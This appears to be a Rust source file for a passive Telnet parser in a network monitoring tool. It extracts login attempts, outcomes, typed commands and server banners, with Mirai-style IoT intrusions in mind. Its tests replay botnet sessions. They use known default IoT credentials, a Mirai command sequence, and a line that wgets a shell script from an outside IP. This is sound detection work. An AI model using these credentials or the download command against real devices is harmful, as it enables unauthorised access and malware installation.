//! Telnet: logins typed at a server's `login:`/`Password:` prompts, their
//! outcome, and the commands typed afterwards — the path Mirai and its
//! descendants use to enter IoT devices.
//!
//! How it reads a session:
//! - Option negotiation (`IAC WILL/WONT/DO/DONT`, `IAC SB … IAC SE`, other
//!   two-byte commands) is removed from both directions by a small state
//!   machine that keeps no bytes: a subnegotiation longer than
//!   [`MAX_SUBNEGOTIATION`] is abandoned and reported as malformed.
//! - Server text is read line by line; the unfinished line at the end of each
//!   chunk is checked too, because prompts come without a newline. Lines
//!   ending in `login:`, `username:`, `user name:` … are login prompts,
//!   lines ending in `password:` are password prompts (case-insensitive).
//! - The client's keystrokes are assembled into a line (one byte per packet,
//!   `\r\n`, `\r\0` or `\n` endings, backspace/DEL editing); a finished line
//!   answers the last prompt.
//! - After a password, the server's next words decide: `incorrect`,
//!   `failed`, `denied`, `invalid` … or a fresh prompt mean failure; a shell
//!   prompt (`# `, `$ `, `> `, `% `), `Last login` or a BusyBox banner mean
//!   success. A [`Credential`] is emitted when the outcome is known, or with
//!   [`LoginOutcome::Unknown`] at [`AppParser::finish`]. Every attempt on the
//!   connection yields its own credential.
//! - Each line typed after the password is an [`AppEvent::Command`] (cut at
//!   [`MAX_INPUT`] bytes, at most [`MAX_COMMANDS`] per flow). A shell prompt before any login prompt is reported
//!   as [`AppEvent::NoAuth`].
//! - Text the server sends before its first prompt is a [`HintKind::Banner`].
//!
//! Everything kept per flow is bounded by the constants below.

use crate::linebuf::{contains_ci, product_version};
use crate::{
    printable, About, AppEvent, AppParser, AppProto, Credential, Direction, Hint, HintKind,
    LoginOutcome, Secret,
};

const IAC: u8 = 255;
const SB: u8 = 250;
const SE: u8 = 240;
const WILL: u8 = 251;
const DONT: u8 = 254;

/// Longest subnegotiation followed before giving up on it.
pub const MAX_SUBNEGOTIATION: usize = 1024;
/// Longest client line kept (username, password or command).
pub const MAX_INPUT: usize = 512;
/// Commands reported per flow; a session that types more is still parsed
/// for logins, but its further lines are not reported one by one.
pub const MAX_COMMANDS: u32 = 256;
/// Longest server line examined for prompts and outcome words.
const MAX_SERVER_LINE: usize = 512;
/// Banner lines and bytes kept before the first prompt.
const MAX_BANNER_LINES: usize = 4;
const MAX_BANNER_BYTES: usize = 256;

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum IacState {
    #[default]
    Data,
    /// Saw IAC.
    Iac,
    /// Saw IAC WILL/WONT/DO/DONT; next byte is the option.
    Option,
    /// Inside IAC SB …
    Sub,
    /// Saw IAC inside a subnegotiation.
    SubIac,
}

/// Removes Telnet commands from one direction; keeps no payload bytes.
#[derive(Debug, Default)]
struct IacStripper {
    state: IacState,
    sub_len: usize,
}

impl IacStripper {
    /// Append the data bytes of `input` to `out`. Returns true if a
    /// subnegotiation overran [`MAX_SUBNEGOTIATION`].
    fn strip(&mut self, input: &[u8], out: &mut Vec<u8>) -> bool {
        let mut overrun = false;
        for &b in input {
            self.state = match (self.state, b) {
                (IacState::Data, IAC) => IacState::Iac,
                (IacState::Data, _) => {
                    out.push(b);
                    IacState::Data
                }
                (IacState::Iac, IAC) => {
                    out.push(IAC);
                    IacState::Data
                }
                (IacState::Iac, SB) => {
                    self.sub_len = 0;
                    IacState::Sub
                }
                (IacState::Iac, WILL..=DONT) => IacState::Option,
                // NOP, DM, BRK, IP, AO, AYT, EC, EL, GA, stray SE: two-byte commands.
                (IacState::Iac, _) => IacState::Data,
                (IacState::Option, _) => IacState::Data,
                (IacState::Sub, IAC) => IacState::SubIac,
                (IacState::Sub, _) => {
                    self.sub_len += 1;
                    if self.sub_len > MAX_SUBNEGOTIATION {
                        overrun = true;
                        IacState::Data
                    } else {
                        IacState::Sub
                    }
                }
                (IacState::SubIac, SE) => IacState::Data,
                // IAC IAC inside SB is an escaped 255; anything else is a
                // protocol error that real servers tolerate: stay inside.
                (IacState::SubIac, _) => IacState::Sub,
            };
        }
        overrun
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Prompt {
    Login,
    Password,
}

#[derive(Debug)]
enum Phase {
    /// Before a password has been typed (or after a failed attempt).
    Login,
    /// A password was typed; waiting for the server's verdict.
    Outcome { user: Option<String>, pass: String },
    /// Logged in (or a shell without login): client lines are commands.
    Shell,
}

/// Telnet parser; one per flow.
#[derive(Debug)]
pub struct TelnetParser {
    iac: [IacStripper; 2],
    scratch: Vec<u8>,
    server_line: Vec<u8>,
    banner: Vec<String>,
    banner_bytes: usize,
    banner_reported: bool,
    busybox_reported: bool,
    prompt: Option<Prompt>,
    ever_prompted: bool,
    attempts: u32,
    commands: u32,
    phase: Phase,
    user: Option<String>,
    input: Vec<u8>,
    after_cr: bool,
}

impl Default for TelnetParser {
    fn default() -> Self {
        Self::new()
    }
}

impl TelnetParser {
    pub fn new() -> Self {
        TelnetParser {
            iac: [IacStripper::default(), IacStripper::default()],
            scratch: Vec::new(),
            server_line: Vec::new(),
            banner: Vec::new(),
            banner_bytes: 0,
            banner_reported: false,
            busybox_reported: false,
            prompt: None,
            ever_prompted: false,
            attempts: 0,
            commands: 0,
            phase: Phase::Login,
            user: None,
            input: Vec::new(),
            after_cr: false,
        }
    }

    fn server_bytes(&mut self, data: &[u8], out: &mut Vec<AppEvent>) {
        for &b in data {
            match b {
                b'\r' | b'\n' => {
                    if !self.server_line.is_empty() {
                        let line = std::mem::take(&mut self.server_line);
                        self.server_text(&line, true, out);
                    }
                }
                0 => {}
                _ => {
                    if self.server_line.len() >= MAX_SERVER_LINE {
                        // No prompt or verdict is this long; keep the tail
                        // short so the check below stays cheap.
                        self.server_line.clear();
                    }
                    self.server_line.push(b);
                }
            }
        }
        if !self.server_line.is_empty() {
            let line = std::mem::take(&mut self.server_line);
            self.server_text(&line, false, out);
            self.server_line = line;
        }
    }

    /// Examine one server line (`complete`) or the unfinished tail of the output.
    fn server_text(&mut self, line: &[u8], complete: bool, out: &mut Vec<AppEvent>) {
        if !self.busybox_reported && contains_ci(line, b"busybox v") {
            let text = printable(line, 200);
            if let Some((product, version)) = product_version(&text) {
                self.busybox_reported = true;
                out.push(AppEvent::Software {
                    about: About::Responder,
                    product,
                    version: Some(version),
                    raw: text,
                });
            }
        }
        let prompt = prompt_kind(line);
        if matches!(self.phase, Phase::Outcome { .. }) {
            if is_failure(line) {
                self.conclude(LoginOutcome::Failure, out);
            } else if is_success(line) || (!complete && is_shell_prompt(line)) {
                self.conclude(LoginOutcome::Success, out);
                return;
            } else if prompt.is_some() {
                // Asked again without a word: the last attempt failed.
                self.conclude(LoginOutcome::Failure, out);
            }
        }
        if let Some(p) = prompt {
            if matches!(self.phase, Phase::Shell) {
                // `login:` after `exit`, or a su/sudo prompt: a fresh login.
                self.phase = Phase::Login;
            }
            self.prompt = Some(p);
            if !self.ever_prompted {
                self.ever_prompted = true;
                self.report_banner(out);
            }
            return;
        }
        if matches!(self.phase, Phase::Login)
            && !self.ever_prompted
            && self.attempts == 0
            && !complete
            && is_shell_prompt(line)
        {
            self.report_banner(out);
            out.push(AppEvent::NoAuth { protocol: "telnet" });
            self.phase = Phase::Shell;
            return;
        }
        if complete && !self.ever_prompted && !self.banner_reported {
            let text = printable(line, MAX_BANNER_BYTES);
            let text = text.trim();
            if !text.is_empty()
                && self.banner.len() < MAX_BANNER_LINES
                && self.banner_bytes + text.len() <= MAX_BANNER_BYTES
            {
                self.banner_bytes += text.len();
                self.banner.push(text.to_string());
            }
        }
    }

    fn report_banner(&mut self, out: &mut Vec<AppEvent>) {
        if self.banner_reported || self.banner.is_empty() {
            return;
        }
        self.banner_reported = true;
        let value = self.banner.join(" | ");
        out.push(AppEvent::Hint(Hint {
            about: About::Responder,
            kind: HintKind::Banner,
            value: value.clone(),
        }));
        if let Some((product, version)) = product_version(&value) {
            out.push(AppEvent::Software {
                about: About::Responder,
                product,
                version: Some(version),
                raw: value,
            });
        }
    }

    fn conclude(&mut self, outcome: LoginOutcome, out: &mut Vec<AppEvent>) {
        let phase = std::mem::replace(
            &mut self.phase,
            if outcome == LoginOutcome::Success {
                Phase::Shell
            } else {
                Phase::Login
            },
        );
        if let Phase::Outcome { user, pass } = phase {
            out.push(AppEvent::Credential(Credential {
                protocol: "telnet",
                method: "plain",
                username: user,
                secret: Some(Secret::new(pass)),
                outcome,
            }));
        }
    }

    fn client_bytes(&mut self, data: &[u8], out: &mut Vec<AppEvent>) {
        for &b in data {
            match b {
                b'\r' => {
                    self.client_line(out);
                    self.after_cr = true;
                    continue;
                }
                b'\n' if !self.after_cr => self.client_line(out),
                b'\n' | 0 => {}
                0x08 | 0x7f => {
                    self.input.pop();
                }
                // Ctrl-U kills the line.
                0x15 => self.input.clear(),
                b if b < 0x20 => {}
                _ => {
                    if self.input.len() < MAX_INPUT {
                        self.input.push(b);
                    }
                }
            }
            self.after_cr = false;
        }
    }

    fn client_line(&mut self, out: &mut Vec<AppEvent>) {
        let line = printable(&self.input, MAX_INPUT);
        self.input.clear();
        // The prompt this line answers has been used up; don't let the
        // server's newline after it count as a second prompt.
        self.server_line.clear();
        match self.prompt {
            Some(Prompt::Login) => {
                if !line.is_empty() {
                    self.prompt = None;
                    self.user = Some(line);
                }
            }
            Some(Prompt::Password) => {
                self.prompt = None;
                if matches!(self.phase, Phase::Outcome { .. }) {
                    self.conclude(LoginOutcome::Unknown, out);
                }
                self.attempts += 1;
                self.phase = Phase::Outcome {
                    user: self.user.take(),
                    pass: line,
                };
            }
            None => {
                // Lines typed after a password are commands, whether or not
                // the verdict has shown yet (bots pipeline `enable`, `sh` …).
                if !line.is_empty()
                    && !matches!(self.phase, Phase::Login)
                    && self.commands < MAX_COMMANDS
                {
                    self.commands += 1;
                    out.push(AppEvent::Command(line));
                }
            }
        }
    }
}

/// Lower-cased line with trailing blanks removed, for prompt matching.
fn prompt_kind(line: &[u8]) -> Option<Prompt> {
    let t = line.trim_ascii_end();
    let t = t.strip_suffix(b":")?.trim_ascii_end();
    let ends = |s: &[u8]| t.len() >= s.len() && t[t.len() - s.len()..].eq_ignore_ascii_case(s);
    if ends(b"password") || ends(b"passwd") || ends(b"passcode") {
        return Some(Prompt::Password);
    }
    if ends(b"login")
        || ends(b"username")
        || ends(b"user name")
        || ends(b"user")
        || ends(b"login name")
        || ends(b"login as")
        || ends(b"user id")
        || ends(b"userid")
    {
        return Some(Prompt::Login);
    }
    None
}

fn is_failure(line: &[u8]) -> bool {
    [
        &b"incorrect"[..],
        b"failed",
        b"failure",
        b"denied",
        b"invalid",
        b"bad password",
        b"wrong",
    ]
    .iter()
    .any(|w| contains_ci(line, w))
}

fn is_success(line: &[u8]) -> bool {
    contains_ci(line, b"last login") || contains_ci(line, b"busybox")
}

fn is_shell_prompt(line: &[u8]) -> bool {
    let t = line.strip_suffix(b" ").unwrap_or(line);
    matches!(t.last(), Some(b'#' | b'$' | b'>' | b'%')) && t.len() <= 128
}

impl AppParser for TelnetParser {
    fn protocol(&self) -> AppProto {
        AppProto::Telnet
    }

    fn feed(&mut self, dir: Direction, data: &[u8], out: &mut Vec<AppEvent>) -> bool {
        let mut text = std::mem::take(&mut self.scratch);
        text.clear();
        let idx = match dir {
            Direction::ToServer => 0,
            Direction::ToClient => 1,
        };
        if self.iac[idx].strip(data, &mut text) {
            out.push(AppEvent::Malformed {
                protocol: "telnet",
                what: "subnegotiation-too-long",
            });
        }
        match dir {
            Direction::ToServer => self.client_bytes(&text, out),
            Direction::ToClient => self.server_bytes(&text, out),
        }
        self.scratch = text;
        true
    }

    fn finish(&mut self, out: &mut Vec<AppEvent>) {
        self.report_banner(out);
        if matches!(self.phase, Phase::Outcome { .. }) {
            self.conclude(LoginOutcome::Unknown, out);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(steps: &[(Direction, &[u8])]) -> Vec<AppEvent> {
        let mut p = TelnetParser::new();
        let mut out = Vec::new();
        for (d, data) in steps {
            assert!(p.feed(*d, data, &mut out));
        }
        p.finish(&mut out);
        out
    }

    fn creds(ev: &[AppEvent]) -> Vec<(Option<String>, String, LoginOutcome)> {
        ev.iter()
            .filter_map(|e| match e {
                AppEvent::Credential(c) => Some((
                    c.username.clone(),
                    c.secret.as_ref().unwrap().expose().to_string(),
                    c.outcome,
                )),
                _ => None,
            })
            .collect()
    }

    fn commands(ev: &[AppEvent]) -> Vec<String> {
        ev.iter()
            .filter_map(|e| match e {
                AppEvent::Command(c) => Some(c.clone()),
                _ => None,
            })
            .collect()
    }

    use Direction::{ToClient as S, ToServer as C};

    #[test]
    fn mirai_style_session_one_byte_per_packet() {
        let mut steps: Vec<(Direction, Vec<u8>)> = vec![
            (S, vec![IAC, 253, 1, IAC, 253, 31, IAC, 251, 1, IAC, 251, 3]),
            (C, vec![IAC, 252, 1, IAC, 252, 31]),
            (S, b"\r\n(none) login: ".to_vec()),
        ];
        for &b in b"root\r\0" {
            steps.push((C, vec![b]));
        }
        steps.push((S, b"\r\nPassword: ".to_vec()));
        for &b in b"xc3511\r\n" {
            steps.push((C, vec![b]));
        }
        steps.push((
            S,
            b"\r\n\r\nBusyBox v1.19.4 (2014-02-12) built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# ".to_vec(),
        ));
        for cmd in ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"] {
            steps.push((C, format!("{cmd}\r\n").into_bytes()));
            steps.push((S, b"# ".to_vec()));
        }
        let steps: Vec<(Direction, &[u8])> = steps.iter().map(|(d, v)| (*d, &v[..])).collect();
        let ev = run(&steps);
        assert_eq!(
            creds(&ev),
            vec![(Some("root".into()), "xc3511".into(), LoginOutcome::Success)]
        );
        assert_eq!(
            commands(&ev),
            ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"]
        );
        assert!(ev.iter().any(|e| matches!(e,
            AppEvent::Software { product, version: Some(v), .. } if product == "BusyBox" && v == "1.19.4")));
    }

    #[test]
    fn repeated_failures_then_success_yield_one_credential_each() {
        let ev = run(&[
            (S, b"Welcome to DVR\r\nlogin: "),
            (C, b"admin\r\n"),
            (S, b"Password: "),
            (C, b"admin\r\n"),
            (S, b"\r\nLogin incorrect\r\nlogin: "),
            (C, b"root\n"),
            (S, b"Password: "),
            (C, b"vizxv\n"),
            (S, b"\r\nLogin inc"),
            (S, b"orrect\r\n\r\nlogin: "),
            (C, b"root\r\n"),
            (S, b"Password:"),
            (C, b"12345\r\n"),
            (S, b"\r\n~ $ "),
            (C, b"wget http://198.51.100.7/x.sh\r\n"),
        ]);
        assert_eq!(
            creds(&ev),
            vec![
                (Some("admin".into()), "admin".into(), LoginOutcome::Failure),
                (Some("root".into()), "vizxv".into(), LoginOutcome::Failure),
                (Some("root".into()), "12345".into(), LoginOutcome::Success),
            ]
        );
        assert_eq!(commands(&ev), ["wget http://198.51.100.7/x.sh"]);
        assert!(ev.contains(&AppEvent::Hint(Hint {
            about: About::Responder,
            kind: HintKind::Banner,
            value: "Welcome to DVR".into()
        })));
    }

    #[test]
    fn backspace_editing_and_empty_password() {
        let ev = run(&[
            (S, b"Username:"),
            (C, b"roox\x08t\r\n"),
            (S, b"Password:"),
            (C, b"\r\n"),
        ]);
        assert_eq!(
            creds(&ev),
            vec![(Some("root".into()), String::new(), LoginOutcome::Unknown)]
        );
    }

    #[test]
    fn shell_without_login_is_noauth() {
        let ev = run(&[(S, b"\r\n# "), (C, b"cat /proc/cpuinfo\r\n")]);
        assert!(ev.contains(&AppEvent::NoAuth { protocol: "telnet" }));
        assert_eq!(commands(&ev), ["cat /proc/cpuinfo"]);
        assert!(creds(&ev).is_empty());
    }

    #[test]
    fn commands_per_flow_are_capped() {
        let mut steps: Vec<(Direction, Vec<u8>)> = vec![(S, b"# ".to_vec())];
        for i in 0..MAX_COMMANDS + 10 {
            steps.push((C, format!("echo {i}\r\n").into_bytes()));
        }
        let steps: Vec<(Direction, &[u8])> = steps.iter().map(|(d, v)| (*d, &v[..])).collect();
        assert_eq!(commands(&run(&steps)).len(), MAX_COMMANDS as usize);
    }

    #[test]
    fn escaped_iac_and_long_subnegotiation() {
        let mut s = IacStripper::default();
        let mut out = Vec::new();
        assert!(!s.strip(
            &[b'a', IAC, IAC, b'b', IAC, SB, 24, 1, IAC, SE, b'c'],
            &mut out
        ));
        assert_eq!(out, [b'a', IAC, b'b', b'c']);
        let mut long = vec![IAC, SB];
        long.extend(std::iter::repeat_n(b'x', MAX_SUBNEGOTIATION + 1));
        long.push(b'd');
        out.clear();
        assert!(s.strip(&long, &mut out));
        assert_eq!(out, [b'd']);
    }
}
